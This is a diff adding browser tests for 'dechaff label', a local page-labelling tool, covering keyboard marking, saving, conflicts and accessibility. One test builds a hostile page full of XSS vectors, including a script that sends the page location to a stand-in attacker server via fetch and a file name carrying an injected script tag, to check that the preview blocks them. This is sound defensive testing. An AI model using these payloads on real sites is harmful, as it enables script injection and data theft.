@@ -1,0 +1,337 @@
+// `dechaff label` in a browser: marking by keyboard, what goes wrong, and pages that mean harm.
+
+import assert from 'node:assert/strict';
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, afterEach, before, test } from 'node:test';
+
+import { PHONE, openPage, sideways, startBrowser, startLabel, violations } from './browser.mjs';
+
+const [START, END] = ['<!-- content -->', '<!-- /content -->'];
+
+let browser;
+before(async () => {
+  browser = await startBrowser();
+});
+after(() => browser?.close());
+
+const toClean = [];
+afterEach(async () => {
+  for (const clean of toClean.splice(0).reverse()) await clean();
+});
+
+/** A directory with these files. */
+function directory(files) {
+  const dir = mkdtempSync(join(tmpdir(), 'dechaff-label-'));
+  toClean.push(() => rmSync(dir, { recursive: true, force: true }));
+  for (const [name, text] of Object.entries(files)) {
+    mkdirSync(join(dir, name, '..'), { recursive: true });
+    writeFileSync(join(dir, name), text);
+  }
+  return { dir, read: (name) => readFileSync(join(dir, name), 'utf8'), path: (name) => join(dir, name) };
+}
+
+/** Starts `dechaff label` for one test. */
+async function startServer(dir, port) {
+  const server = await startLabel(dir, port);
+  toClean.push(server.kill);
+  return server;
+}
+
+/** Opens the interface and waits for the lines of the first page. */
+async function openLabel(address, options = {}) {
+  const tab = await openPage(browser, address, options);
+  toClean.push(tab.close);
+  await tab.page.waitForSelector('.line');
+  await settled(tab.page);
+  return tab;
+}
+
+/** Nothing is being asked of the server, and the preview shows the page. */
+async function settled(page) {
+  await page.waitForFunction(() => !document.querySelector('.busy'));
+  await page.waitForFunction(() => document.querySelector('#preview').contentDocument?.querySelector('style'));
+}
+
+async function press(page, ...keys) {
+  for (const key of keys) await page.keyboard.press(key);
+}
+
+const said = (page) => page.locator('#said').textContent();
+const notice = (page) => page.locator('#notice-text').textContent();
+const labels = (page) =>
+  page.$$eval('.line', (rows) => rows.map((row) => Number(row.getAttribute('aria-checked') === 'true')).join(''));
+const isShown = (page, name) => page.waitForFunction((name) => document.querySelector('#page-name').textContent === name, name);
+const saysSoon = (page, selector, text) =>
+  page.waitForFunction(([selector, text]) => document.querySelector(selector).textContent.includes(text), [selector, text]);
+
+const FOUR = '<nav>Home</nav>\r\n<p>First text.</p>\n<p>Second <b>text</b>.\n<footer>Imprint</footer>\n';
+
+test('a page is marked by keyboard, and nothing else in its file changes', async () => {
+  const files = directory({ 'a.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const tab = await openLabel(address);
+  const { page } = tab;
+  await press(page, 'Home', 'Shift+End', 'b');
+  assert.equal(await labels(page), '0000');
+  await press(page, 'Escape', 'k', 'k', 'x', 'j', 'Space');
+  await press(page, 'j', 'c', 'u');
+  assert.equal(await labels(page), '0110');
+  await press(page, 'u', 'Shift+U');
+  assert.equal(await labels(page), '0110');
+  assert.match(await page.locator('#page-facts').textContent(), /2 of 4 lines are content.*not saved/);
+  await press(page, 's');
+  await saysSoon(page, '#said', 'All pages are marked');
+  const marked = FOUR.replace('First', `${START}First`).replace('</b>.', `</b>.${END}`);
+  assert.equal(files.read('a.html'), marked);
+
+  await page.reload();
+  await page.waitForSelector('.line');
+  assert.equal(await labels(page), '0110');
+  assert.match(await page.locator('#page-facts').textContent(), /marked\.$/);
+  assert.match(await page.locator('#progress-text').textContent(), /^1 of 1 pages marked/);
+  await press(page, 'Enter');
+  await saysSoon(page, '#said', 'All pages are marked');
+  assert.equal(files.read('a.html'), marked);
+  assert.deepEqual([tab.errors, tab.console], [[], []]);
+});
+
+test('ranges, suggestions and clicks, in the list and in the preview', async () => {
+  const files = directory({ 'a.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const { page } = await openLabel(address);
+  const suggested = await labels(page);
+  await press(page, 'Home', 'Shift+End');
+  assert.equal(await page.locator('.line[aria-selected=true]').count(), 4);
+  await press(page, 'c', 'Escape');
+  assert.equal(await labels(page), '1111');
+  await page.locator('.line').nth(0).click();
+  assert.equal(await labels(page), '0111');
+  await page.locator('.line').nth(2).click({ modifiers: ['Shift'] });
+  assert.equal(await labels(page), '0001');
+  const frame = page.frameLocator('#preview');
+  await frame.locator('dechaff-line', { hasText: 'First' }).click();
+  assert.equal(await labels(page), '0101');
+  assert.equal(await frame.locator('.content').allTextContents().then(String), 'First text.,Imprint');
+  assert.equal(await frame.locator('.current').textContent(), 'First text.');
+  await page.keyboard.press('x');
+  assert.equal(await labels(page), '0001', 'keys work while the preview has the focus');
+  for (let step = 0; step < 5; step += 1) await press(page, 'u');
+  assert.equal(await labels(page), suggested);
+  await press(page, 'a');
+  assert.match(await said(page), /4 lines accepted/);
+  assert.equal(await labels(page), suggested);
+});
+
+test('the pages where the model doubts come first, and the next one follows', async () => {
+  const doubtful = '<p>Read more about this and that here.<p>Some words, some more words.'.repeat(20);
+  const files = directory({ 'a.html': '<nav><a href=/>Home</a></nav>', 'b.html': doubtful, 'c/d.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const { page } = await openLabel(address);
+  await page.waitForFunction(() => !document.querySelector('#progress-text').textContent.includes('to be read'));
+  const order = await page.$$eval('#pages button', (buttons) => buttons.map((button) => Number(button.lastChild.textContent)));
+  assert.deepEqual(order, order.toSorted((one, other) => other - one));
+  const first = await page.locator('#page-name').textContent();
+  await press(page, 'n');
+  await page.waitForFunction((first) => document.querySelector('#page-name').textContent !== first, first);
+  await settled(page);
+  await press(page, 'p');
+  await isShown(page, first);
+  await press(page, '/');
+  await page.keyboard.type('c/d');
+  await press(page, 'Enter');
+  await isShown(page, 'c/d.html');
+  await settled(page);
+  await press(page, 's');
+  await saysSoon(page, '#said', 'c/d.html is saved');
+  assert.ok(files.read('c/d.html').includes(START));
+  assert.match(await page.locator('#progress-text').textContent(), /^1 of 3 pages marked/);
+});
+
+test('training shows held-out figures and a learning curve', async () => {
+  const text = (n) => `<title>${n}</title><ul><li><a href=/>Home</a></ul>${START}<p>The first sentence of page ${n} is long enough.${END}<div>About us</div>`;
+  const files = directory(Object.fromEntries(Array.from({ length: 6 }, (_, n) => [`${n}.html`, text(n)])));
+  const { address } = await startServer(files.dir);
+  const { page } = await openLabel(address);
+  await press(page, 't');
+  await page.click('#train-now');
+  await page.waitForSelector('.chart', { timeout: 120_000 });
+  assert.match(await page.locator('.big').textContent(), /^\d+\.\d\s% of lines wrong on pages held out$/);
+  assert.match(await page.locator('.warnings').textContent(), /very few/);
+  assert.ok((await page.locator('.chart circle').count()) >= 2);
+  assert.match(await page.locator('tbody tr:last-child').textContent(), /suggestions of general/);
+  assert.deepEqual(await violations(page), []);
+});
+
+test('of two tabs, the second is told that the file has changed', async () => {
+  const files = directory({ 'a.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const [one, two] = [await openLabel(address), await openLabel(address)];
+  await press(one.page, 'Home', 'Shift+End', 'b', 's');
+  await saysSoon(one.page, '#said', 'All pages are marked');
+  const first = files.read('a.html');
+  await press(two.page, 'Home', 'Shift+End', 'c', 's');
+  await saysSoon(two.page, '#notice-text', 'changed on disk');
+  assert.equal(files.read('a.html'), first);
+  await two.page.click('#notice-action');
+  await saysSoon(two.page, '#notice-text', 'not saved are back');
+  assert.equal(await labels(two.page), '1111');
+  await press(two.page, 'u');
+  assert.equal(await labels(two.page), '0000');
+  await press(two.page, 'Shift+U', 's');
+  await saysSoon(two.page, '#said', 'All pages are marked');
+  assert.equal(files.read('a.html'), FOUR.replace('Home', `${START}Home`).replace('Imprint', `Imprint${END}`));
+});
+
+test('a server that is killed takes no labels with it', async () => {
+  const files = directory({ 'a.html': FOUR });
+  const server = await startServer(files.dir);
+  const { page } = await openLabel(server.address);
+  await press(page, 'Home', 'Shift+End', 'c', 'Escape', 'Home', 'b');
+  await server.kill();
+  await press(page, 's');
+  await saysSoon(page, '#notice-text', 'cannot be reached');
+  await press(page, 'End', 'b');
+  const meant = await labels(page);
+  assert.equal(meant, '0110');
+  const again = await startServer(files.dir, server.port);
+  await saysSoon(page, '#notice-text', 'has a new address');
+  assert.equal(files.read('a.html'), FOUR);
+  await page.goto(again.address);
+  await page.waitForSelector('.line');
+  await saysSoon(page, '#notice-text', 'not saved are back');
+  assert.equal(await labels(page), meant);
+  await press(page, 's');
+  await saysSoon(page, '#said', 'All pages are marked');
+  assert.ok(files.read('a.html').includes(`${START}First`));
+});
+
+test('a read-only file stays as it is, and its labels stay on the page', async () => {
+  const files = directory({ 'a.html': FOUR });
+  chmodSync(files.path('a.html'), 0o444);
+  const { address } = await startServer(files.dir);
+  const { page } = await openLabel(address);
+  await press(page, 'Home', 'Shift+End', 'c', 's');
+  await saysSoon(page, '#notice-text', 'read-only');
+  assert.equal(await labels(page), '1111');
+  assert.equal(files.read('a.html'), FOUR);
+  chmodSync(files.path('a.html'), 0o644);
+  await press(page, 's');
+  await saysSoon(page, '#said', 'All pages are marked');
+  assert.ok(files.read('a.html').includes(START));
+});
+
+test('a hostile page can do nothing', async () => {
+  const asked = [];
+  const listener = createServer((request, response) => {
+    asked.push(request.url);
+    response.end('alert(1)');
+  }).listen(0, '127.0.0.1');
+  await new Promise((resolve) => listener.once('listening', resolve));
+  toClean.push(() => listener.close());
+  const evil = `http://127.0.0.1:${listener.address().port}/`;
+  const act = `parent.document.title='taken';top.location='${evil}t';fetch('${evil}'+parent.location);alert(1)`;
+  const hostile = `<!doctype html><html onclick="${act}"><head><base href="${evil}" target=_top>
+    <meta http-equiv=refresh content="0;url=${evil}r"><link rel=stylesheet href="${evil}c"><link rel=prefetch href="${evil}p">
+    <meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
+    <style>@import "${evil}i"; @font-face{font-family:x;src:url(${evil}f)} body{font-family:x;background:url(${evil}b)}</style>
+    <script>${act}</script><script src="${evil}s"></script></head><body onload="${act}">
+    <img src=x onerror="${act}"><img src="${evil}g" srcset="${evil}h 2x"><svg onload="${act}"><script>${act}</script></svg>
+    <iframe src="javascript:${act}"></iframe><iframe srcdoc="<script>${act}</script>"></iframe><object data="${evil}o"></object>
+    <form action="${evil}" name=getElementById><input name=querySelectorAll autofocus onfocus="${act}"><button id=send>Send it</button></form>
+    <p><a id=out href="${evil}a" ping="${evil}n" target=_top>A link out of here</a></p><p><a id=run href="javascript:${act}">Another one</a></p>
+    <p>a &lt;script>${'alert(1)'}&lt;/script> <<!-- -->script>alert(2)</script></p>
+    <noscript><p title="</noscript><img src=x onerror=alert(3)>">In no script</noscript>
+    <dialog open>\u202eOver it</dialog><p onclick="${act}" style="position:fixed;inset:0;z-index:9">All over</p></body></html>`;
+  const files = directory({ '"><img src=x onerror=alert(4)>.html': hostile, 'z.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const tab = await openLabel(address);
+  const { page } = tab;
+  if (!(await labels(page)).length || (await page.locator('#page-name').textContent()) === 'z.html') {
+    await press(page, 'n');
+    await page.waitForFunction(() => document.querySelector('#page-name').textContent !== 'z.html');
+    await settled(page);
+  }
+  for (const style of ['own', 'plain']) {
+    const frame = page.frameLocator('#preview');
+    for (const part of await frame.locator('dechaff-line').all()) await part.click({ force: true, noWaitAfter: true });
+    await frame.locator('#out, #run, #send').first().click({ force: true });
+    await frame.locator('body').press('Tab');
+    await page.waitForTimeout(300);
+    const inside = page.frames().find((frame) => frame !== page.mainFrame());
+    assert.match(inside.url(), new RegExp(`/preview/[0-9a-f]{32}/${style}$`));
+    assert.equal(await inside.evaluate(() => 1).catch(() => 'no scripts'), 1, 'the test reads the frame from outside');
+    const html = await page.evaluate(() => document.querySelector('#preview').contentDocument.documentElement.outerHTML);
+    assert.doesNotMatch(html, /<script|<form|<iframe|<base|http-equiv|onclick|onerror|href=|src=/i);
+    assert.ok(!html.includes(address.split('/')[3]), 'the token is not in the preview');
+    if (style === 'own') {
+      await page.locator('#own-style').click();
+      await page.waitForFunction(() => document.querySelector('#preview').contentDocument.URL.endsWith('/plain'));
+      await settled(page);
+    }
+  }
+  assert.equal(page.url(), address);
+  assert.match(await page.title(), /dechaff label$/);
+  assert.deepEqual([asked, tab.dialogs, tab.errors], [[], [], []]);
+  assert.equal(browser.contexts().at(-1).pages().length, 1);
+
+  // From a page of another origin nothing can be read, written or framed.
+  const other = await openPage(browser, evil);
+  toClean.push(other.close);
+  const tried = await other.page.evaluate(async (address) => {
+    const outcome = (promise) => promise.then(() => 'done', () => 'refused');
+    const body = '{"hash":"","labels":""}';
+    const json = { 'Content-Type': 'application/json' };
+    return [
+      await outcome(fetch(`${address}api/pages`)),
+      await outcome(fetch(`${address}api/page/0`, { method: 'POST', body, headers: json })),
+      await outcome(fetch(`${address}api/page/0`, { method: 'POST', body, mode: 'no-cors' })),
+    ];
+  }, address);
+  assert.deepEqual(tried, ['refused', 'refused', 'refused']);
+  assert.ok(!files.read('z.html').includes(START));
+});
+
+test('a page of 50,000 lines stays usable', async () => {
+  const rows = Array.from({ length: 50_000 }, (_, n) => `<p>Line ${n} of a very long page</p>`).join('\n');
+  const files = directory({ 'a.html': rows });
+  const { address } = await startServer(files.dir);
+  const { page } = await openLabel(address, { timeout: 120_000 });
+  await page.waitForFunction(() => document.querySelectorAll('.line').length === 50_000);
+  await press(page, 'End', 'c', 'Home', 'j', 'j', 'x');
+  assert.equal((await labels(page)).length, 50_000);
+  assert.equal(await page.locator('.line.current').textContent().then((text) => text.includes('Line 2 of')), true);
+  await press(page, 's');
+  await saysSoon(page, '#said', 'All pages are marked');
+  assert.ok(files.read('a.html').includes(`Line 49999 of a very long page${END}`));
+});
+
+test('an address without the token says what to do', async () => {
+  const files = directory({ 'a.html': FOUR });
+  const { address } = await startServer(files.dir);
+  const tab = await openPage(browser, new URL('/', address).href);
+  toClean.push(tab.close);
+  assert.match(await tab.page.textContent('body'), /Open the address that it printed/);
+});
+
+test('axe finds nothing wrong, in light and dark, on a wide and a narrow screen', async () => {
+  const files = directory({ 'a.html': FOUR, 'b/c.html': FOUR });
+  const { address } = await startServer(files.dir);
+  for (const options of [{}, { colorScheme: 'dark' }, { viewport: PHONE }, { viewport: PHONE, colorScheme: 'dark' }]) {
+    const { page } = await openLabel(address, options);
+    await press(page, 'Home', 'c', 'Shift+j');
+    assert.deepEqual(await violations(page), [], JSON.stringify(options));
+    assert.equal(await sideways(page), 0, JSON.stringify(options));
+    await press(page, '?');
+    assert.deepEqual(await violations(page), [], JSON.stringify(options));
+    await press(page, 'Escape');
+    if (options.viewport) {
+      for (const pane of ['pages', 'preview']) {
+        await page.click(`[data-show=${pane}]`);
+        assert.deepEqual(await violations(page), [], pane);
+      }
+    }
+  }
+});
